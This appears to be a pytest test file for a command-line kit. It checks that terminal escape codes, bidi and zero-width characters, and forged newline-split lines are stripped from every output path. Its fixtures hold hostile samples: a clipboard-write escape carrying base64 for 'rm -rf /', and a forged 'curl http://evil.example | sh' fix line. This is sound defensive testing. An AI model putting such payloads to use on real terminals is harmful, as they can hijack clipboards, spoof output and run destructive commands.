"""What others say is shown, and not obeyed, wherever it comes out."""

import io
import re
import sys
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as some

from runnerkit.errors import KitError
from runnerkit.events import Began, Detail, Event, Phase
from runnerkit.printable import in_one_line, printable
from runnerkit.report import progress
from runnerkit.report.page import Page, note, once
from runnerkit.report.tables import table

ATTACKS = {
    "title": "\x1b]0;owned\x07",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "C1": "\x9b2J\x90q\x9c",
    "backspace": "\x08\x08\x08ok",
    "carriage return": "failed\rok    ",
    "right to left": "\u202eexe.txt\u2066",
    "no width": "ad\u200bmin\ufeff",
    "separators": "one\u2028two\u2029three\x85four\x0b\x0c",
    "DEL and NUL": "\x7f\x00",
    "tags": "\U000e0041",
}
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]")


def shown_by_progress(text: str) -> None:
    listener = progress._plain()
    events: tuple[Event, ...] = (Phase(text), Began(text, 1, 2), Detail(text))
    for number, event in enumerate(events):
        listener(f"h{number}", event)


WAYS: dict[str, Callable[[str], object]] = {
    "a table": lambda text: Page(table(("a", "b"), [(text, "x")]), {}).show(as_json=False),
    "lines": lambda text: Page([text], {}).show(as_json=False),
    "data": lambda text: Page([], {"a": text}).show(as_json=True),
    "a message": lambda text: Page([], {}, once([("error", "h", text, text)])).show(as_json=False),
    "a note": note,
    "an error": lambda text: print(KitError(text, text)),
    "progress": shown_by_progress,
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_way_out_hands_on_what_a_terminal_obeys(
    attack: str, way: str, capfd: pytest.CaptureFixture[str]
) -> None:
    WAYS[way](f"before {ATTACKS[attack]} after")
    out, err = capfd.readouterr()
    assert "before" in out + err
    assert not OBEYED.search(out + err)


@pytest.mark.parametrize("way", ["a table", "lines", "a message", "an error", "progress"])
def test_a_break_of_line_forges_no_line_of_the_kit_s(
    way: str, capfd: pytest.CaptureFixture[str]
) -> None:
    WAYS[way]("bad\nerror: ci2: everything is lost\n  fix: curl http://evil.example | sh")
    out, err = capfd.readouterr()
    assert not re.search(r"(?m)^(error: ci2|  fix: curl)", out + err)


@pytest.mark.parametrize(
    "host", ["root@[fe80::1]:22", "ci[/x]", "[link=https://evil.example]ci", "ci[red]1"]
)
def test_a_host_s_name_is_shown_on_a_terminal_as_it_is(
    host: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    monkeypatch.setattr(sys, "stderr", terminal := Terminal())
    monkeypatch.setenv("TERM", "xterm")
    with progress.progress() as listener:
        listener(host, Phase("connecting"))
    assert host in terminal.getvalue()
    assert "\x1b]" not in terminal.getvalue()


@given(some.text())
def test_nothing_that_is_obeyed_is_left_of_any_text(text: str) -> None:
    assert not OBEYED.search(printable(text))
    assert "\n" not in in_one_line(text)


def test_half_of_a_letter_goes_through_any_stream() -> None:
    assert printable("a\ud800b").encode() == b"a\\ud800b"


def test_letters_of_any_language_and_tabs_stay() -> None:
    text = "état\tпривет 你好 مرحبا ✓ 🙂 {a: 1}"
    assert printable(text) == text
